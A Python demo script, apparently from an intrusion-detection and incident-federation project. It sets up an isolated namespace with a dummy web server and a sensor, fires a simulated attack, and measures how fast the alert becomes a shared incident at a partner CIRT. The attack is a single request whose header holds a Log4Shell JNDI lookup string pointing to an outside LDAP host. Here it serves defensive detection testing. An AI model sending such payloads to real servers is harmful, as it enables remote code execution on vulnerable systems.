#!/usr/bin/env python3
"""Two coordination servers, a sensor on a real interface, a real attack: shows it become an incident at the partner.

usage: demo.py --bin FOLDER [--keep]

The victim is a web server in a network namespace of its own, joined to this machine by a veth pair; the sensor captures on
the pair. Addresses are from the documentation ranges (RFC 5737). Everything lives in one folder under /tmp and goes with it.
"""
import argparse, os, pathlib, signal, socket, subprocess, sys, time

from two_cirts import two_cirts

ROOT = pathlib.Path(__file__).resolve().parents[2]
VICTIM, ATTACKER = "198.51.100.20", "198.51.100.10"


class demo(two_cirts):
    def __init__(self, binaries):
        super().__init__(binaries)
        self.namespace, self.link = f"cresset-{os.getpid()}", f"crs{os.getpid() % 100000}"

    def make_wire(self):
        ip = lambda *words: subprocess.run(["ip", *words], check=True)
        ip("netns", "add", self.namespace)
        ip("link", "add", self.link, "type", "veth", "peer", "name", "eth0", "netns", self.namespace)
        ip("addr", "add", f"{ATTACKER}/24", "dev", self.link)
        ip("link", "set", self.link, "up")
        inside = lambda *words: ip("netns", "exec", self.namespace, "ip", *words)
        inside("link", "set", "lo", "up")
        inside("addr", "add", f"{VICTIM}/24", "dev", "eth0")
        inside("link", "set", "eth0", "up")
        pages = self.home / "pages"
        pages.mkdir()
        (pages / "index.html").write_text("<html><title>A ministry</title></html>\n")
        self.start("victim", ["ip", "netns", "exec", self.namespace, sys.executable, "-m", "http.server", "80", "-d", pages])
        self.wait("the victim's web server", lambda: self.request("/") is not None)

    def request(self, path, **headers):
        """One GET over the wire, as bytes; nothing when nobody answers."""
        lines = [f"GET {path} HTTP/1.1", f"Host: {VICTIM}", "User-Agent: curl/7.88.1", "Connection: close"]
        lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
        try:
            with socket.create_connection((VICTIM, 80), timeout=5, source_address=(ATTACKER, 0)) as s:
                s.sendall("\r\n".join(lines + ["", ""]).encode())
                answer = b""
                while block := s.recv(65536):
                    answer += block
                return answer
        except OSError:
            return None

    def start_sensor(self, server):
        log_folder = self.home / "sensor" / "log"
        child, log = self.start("sensor", [
            self.bin / "cresset-sensor", "-i", self.link, "-c", ROOT / "appliance/config/sensor.yaml", "-S",
            ROOT / "rules/core/exploit.rules", "-l", log_folder, "-k", "none", "--set", "stats.interval=1",
            *self.sensor_settings("demo-sensor", server)])
        eve = log_folder / "eve.json"
        self.wait("the sensor", lambda: eve.exists() and "stats" in eve.read_text(), child, log)

    def show(self):
        say = lambda text: print(text, flush=True)
        self.make_identities()
        say("two CIRTs, alpha and beta, have exchanged key records and compared fingerprints")
        self.add_sensor("demo-sensor")
        _, alpha = self.start_server("alpha")
        self.start_server("beta")
        say("both servers run, each on a PostgreSQL of its own")
        self.make_wire()
        self.start_sensor(alpha)
        say(f"a sensor captures on {self.link}; ordinary requests pass")
        for _ in range(3):
            self.request("/")
        struck = time.time()
        self.request("/", X_Api_Version="${jndi:ldap://198.51.100.66:1389/a}")
        say("an attacker sends a request with a JNDI lookup in a header (CVE-2021-44228)")
        arrived, object_id, digest = self.wait("the incident at the partner", lambda: self.ask(
            "beta", "SELECT extract(epoch FROM stored) || ' ' || object_id || ' ' || encode(sha256(body), 'hex') FROM "
                    "federation_entry WHERE object_id LIKE 'incident--%' ORDER BY position LIMIT 1")).split()
        self.report(struck, float(arrived), object_id, digest, alpha, say)

    def report(self, struck, arrived, object_id, digest, alpha, say):
        number = lambda sql: float(self.ask("alpha", sql) or 0)
        captured = number("SELECT captured_ns / 1e9 FROM alert ORDER BY position LIMIT 1")
        received = number("SELECT extract(epoch FROM received) FROM alert ORDER BY position LIMIT 1")
        opened = number("SELECT extract(epoch FROM opened) FROM incident ORDER BY id LIMIT 1")
        sent = number("SELECT extract(epoch FROM stored) FROM federation_entry WHERE object_id LIKE 'incident--%' ORDER BY position LIMIT 1")
        ours = self.ask("alpha", f"SELECT encode(sha256(body), 'hex') FROM federation_entry WHERE object_id = '{object_id}' ORDER BY position LIMIT 1")
        title = self.ask("alpha", "SELECT title FROM incident ORDER BY id LIMIT 1")
        say(f"\nIncident at the partner: {title}\n  {object_id}\n  its bytes there and here have the same SHA-256: "
            f"{'yes' if ours == digest else 'NO'} ({digest[:16]}…)")
        legs = [("packet on the wire → captured", struck, captured), ("captured → stored at alpha, through spool and uplink", captured, received),
                ("stored → incident", received, opened), ("incident → released, signed, in beta's stream", opened, sent),
                ("released → verified and stored at beta", sent, arrived), ("the whole way", struck, arrived)]
        for name, begin, end in legs:
            say(f"  {1000 * (end - begin):8.1f} ms  {name}")
        login = (self.home / "alpha" / "first-login")
        say(f"\nConsole of alpha: {alpha['https']}\nFirst login: {login.read_text().strip() if login.exists() else '(see the server log)'}")
        if ours != digest:
            raise RuntimeError("the partner's copy differs from ours")

    def close(self):
        super().close()
        subprocess.run(["ip", "link", "del", self.link], stderr=subprocess.DEVNULL)
        subprocess.run(["ip", "netns", "del", self.namespace], stderr=subprocess.DEVNULL)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--bin", required=True)
    p.add_argument("--keep", action="store_true")
    a = p.parse_args()
    one = demo(a.bin)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))
    try:
        one.show()
        if a.keep:
            print("\nAll of it keeps running. Press Ctrl-C to stop it.", flush=True)
            while True:
                time.sleep(3600)
    except KeyboardInterrupt:
        print()
    except RuntimeError as error:
        print(f"quickstart: {error}", file=sys.stderr)
        return 1
    finally:
        one.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
